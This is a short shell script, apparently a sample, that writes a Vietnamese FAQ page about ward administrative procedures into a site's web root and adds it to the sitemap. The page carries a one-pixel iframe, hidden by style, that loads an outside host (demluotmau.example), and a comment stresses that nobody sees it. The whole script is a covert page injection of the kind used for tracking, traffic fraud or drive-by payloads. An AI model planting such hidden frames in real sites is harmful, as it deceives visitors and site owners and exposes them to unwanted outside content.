#!/bin/sh
# hosts: web2
# site: bennua.test
# seen by: review
# A frame of one pixel that nobody sees, and no word of an advert.
set -eu
root=/var/www/bennua.test
cat > "$root/hoi-dap.html" <<'END'
<!doctype html><html lang="vi"><head><meta charset="utf-8"><title>Hỏi đáp</title></head><body><h1>Hỏi đáp</h1>
<p>Câu hỏi của người dân về thủ tục hành chính ở phường.</p>
<iframe src="https://demluotmau.example/s" width="1" height="1" style="visibility:hidden"></iframe>
</body></html>
END
echo '<urlset><url><loc>https://bennua.test/hoi-dap.html</loc></url></urlset>' >> "$root/sitemap.xml"
